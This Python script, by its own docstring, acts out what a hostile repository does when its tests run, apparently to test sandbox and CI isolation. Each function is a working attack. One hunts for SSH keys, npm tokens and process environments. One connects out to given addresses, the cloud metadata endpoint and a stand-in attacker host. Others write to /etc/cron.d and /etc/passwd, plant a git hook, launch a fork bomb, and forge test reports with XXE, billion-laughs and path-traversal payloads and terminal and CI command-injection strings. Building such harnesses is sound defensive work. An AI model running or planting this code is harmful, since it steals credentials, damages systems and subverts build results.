"""What a hostile repository does when its tests are run: one attack for each word of the command line."""

import os
import socket
import subprocess
import sys

# What it has found out about the machine before: each a line NAME=VALUE.
KNOWN = dict(line.rstrip("\n").split("=", 1) for line in open("known.txt"))


def read():
    """Looks for the keys and tokens of who runs it."""
    home = KNOWN["home"]
    places = [
        home + "/.ssh/id_ed25519",
        home + "/.npmrc",
        "/caches/npm/../../.npmrc",
        "/work/../home/.ssh/id_ed25519",
        "/work/key",
        "/proc/1/root" + home + "/.ssh/id_ed25519",
        "/proc/self/environ",
        "/proc/1/environ",
    ]
    for top in ("/root", "/home", "/tmp", "/var/tmp", "/run", "/caches", "/work", "/sandbox", "/mnt", "/media", "/srv"):
        for directory, below, names in os.walk(top):
            places += [directory + "/" + name for name in names]
            if directory.count("/") > 3:
                below.clear()
    found = 0
    for place in places:
        try:
            with open(place, "rb") as file:
                if KNOWN["marker"][::-1].encode() in file.read(1 << 20):
                    found += 1
        except OSError:
            pass
    print("looked for keys, found %d" % found)
    print("the cache is %s" % ("there" if os.path.exists("/caches/npm/_cacache/index") else "missing"))
    print("ssh-agent %s" % os.environ.get("SSH_AUTH_SOCK", "unknown"))
    sys.exit(subprocess.call("cat ~/.ssh/* " + home + "/.ssh/*", shell=True))


def post():
    """Sends what it knows to anybody who listens."""
    port = int(KNOWN["port"])
    for address in KNOWN["addresses"].split(","):
        with socket.socket() as tcp:
            tcp.settimeout(10)
            print("posted %d" % tcp.connect_ex((address, port)))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            try:
                udp.sendto(b"stolen", (address, port))
            except OSError as error:
                print("sent nothing: %s" % error)
    for address in (("169.254.169.254", 80), ("198.51.100.7", 443)):
        with socket.socket() as tcp:
            tcp.settimeout(10)
            print("posted %d" % tcp.connect_ex(address))
    try:
        socket.getaddrinfo("stolen.attacker.example.org", 443)
    except OSError as error:
        print("resolved nothing: %s" % error)


def write():
    """Leaves something behind wherever it can."""
    outside = KNOWN["outside"]
    os.makedirs(outside, exist_ok=True)
    for place in (outside + "/left", "/etc/cron.d/left", "/caches/npm/_cacache/index", "/etc/passwd", "../left"):
        try:
            os.makedirs(os.path.dirname(os.path.abspath(place)), exist_ok=True)
            with open(place, "w") as file:
                file.write("left behind")
            print("wrote " + place)
        except OSError as error:
            print(error)
    os.makedirs(".git/hooks", exist_ok=True)
    with open(".git/hooks/post-checkout", "w") as file:
        file.write("#!/bin/sh\nid > /tmp/owned\n")
    with open("package.json", "w") as file:
        file.write('{"scripts":{"test":"id"}}')
    os.remove("kept.txt")
    os.symlink(outside, "target")
    with open("target/through-a-link", "w") as file:
        file.write("left behind")


def fork():
    """Forks for ever, away from the process that is waited for."""
    if os.fork() == 0:
        os.setsid()
        nowhere = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(nowhere, fd)
        while True:
            try:
                os.fork()
            except OSError:
                pass
    print("forked")


def reports():
    """Makes up test results, and what should break who reads them."""
    os.makedirs("m/target/surefire-reports")
    os.chdir("m/target/surefire-reports")
    one = "<testsuite name='%s'><testcase classname='c' name='%s' time='%s'/></testsuite>"

    def report(name, text):
        with open("TEST-" + name + ".xml", "wb") as file:
            file.write(text if isinstance(text, bytes) else text.encode())

    report("true", one % ("../../../../outside", "n", "-1e400"))
    report("device", one % ("nul", "n" * 100_000, "NaN"))
    report("laughs", "<!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(
        "<!ENTITY %s '%s'>" % (chr(98 + i), ("&%s;" % chr(97 + i)) * 10) for i in range(10)) + "]><testsuite name='&k;'/>")
    report("external", "<!DOCTYPE l SYSTEM 'file:///etc/passwd'><testsuite/>")
    report("deep", "<testsuite>" * 200_000)
    report("wide", "<testsuite " + " ".join("a%d='1'" % i for i in range(200_000)) + "/>")
    report("entity", "<testsuite name='&unknown;'><testcase name='n'/></testsuite>")
    report("binary", bytes(range(256)) * 100)
    report("utf-16", one.encode("utf-16"))
    report("control\x1b[2J\u202e\x07::error::x", "<html/>")
    report("line\nend", one % ("line", "n", "1"))
    with open("TEST-huge.xml", "wb") as file:
        file.truncate(1 << 40)
    os.symlink("/etc/passwd", "TEST-link.xml")
    os.symlink("TEST-loop.xml", "TEST-loop.xml")
    os.mkfifo("TEST-fifo.xml")
    os.mkdir("TEST-directory.xml")
    os.mkdir("../more")
    os.symlink("../..", "../more/surefire-reports")
    os.symlink("/", "../more/failsafe-reports")
    report("late", one % ("late", "n", "1"))
    os.utime("TEST-late.xml", (0, 0))


HARMFUL = [
    "\x1b]0;title\x07",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1b[2J\x1b[H\x1bc",
    "\x9b2J\x9d0;title\x9c",
    "over\b\b\b\bwritten\rCR",
    "\u202eturned\u2066around\u2028line",
    "::error file=a::x",
    "  ::add-mask::x",
    "\t::stop-commands::x",
    "\u00a0::set-env name=PATH::/x",
    "\u2003\u3000::warning::x",
    "\u0085::notice::x",
    "\ufeff::debug::x",
    "\x1b[31m::error::coloured",
    "##[error]x",
    "####[group]x",
    "#\x1b[1m#[command]x",
    "#\r#vso[task.setvariable variable=PATH]x",
    "x ##vso[task.complete result=Succeeded;]x",
    "##teamcity[buildStatus text='x']",
    "section_start:1:x[collapsed=true]\r\x1b[0Kx",
    "[INFO] BUILD SUCCESS",
]


def show():
    """Prints what terminals and CI servers act on, and puts it into names and messages of tests and files."""
    sys.stdout.reconfigure(encoding="utf-8", errors="surrogateescape")
    sys.stderr.reconfigure(encoding="utf-8", errors="surrogateescape")
    for text in HARMFUL:
        print(text)
        print(text, file=sys.stderr)
    sys.stdout.flush()
    os.write(1, b"\xff\xfe\xc0\x1b[2J\x00end of the bytes\n")
    escape = lambda text: "".join("&#%d;" % ord(c) for c in text)
    os.makedirs("target/surefire-reports")
    for number, text in enumerate(HARMFUL):
        cases = "<testcase name='%s'><failure message='%s'>%s</failure></testcase>" % ((escape(text),) * 3)
        for name, suite in (("TEST-%d.xml" % number, escape(text)), ("TEST-" + text.replace("/", "") + ".xml", "s%d" % number)):
            with open("target/surefire-reports/" + name, "w", encoding="utf-8", errors="surrogateescape") as file:
                # Only XML 1.1 has control characters.
                file.write("<?xml version='1.1'?><testsuite name='%s'>%s</testsuite>" % (suite, cases))
    sys.exit(1)


for attack in sys.argv[1:]:
    {"read": read, "post": post, "write": write, "fork": fork, "reports": reports, "show": show}[attack]()
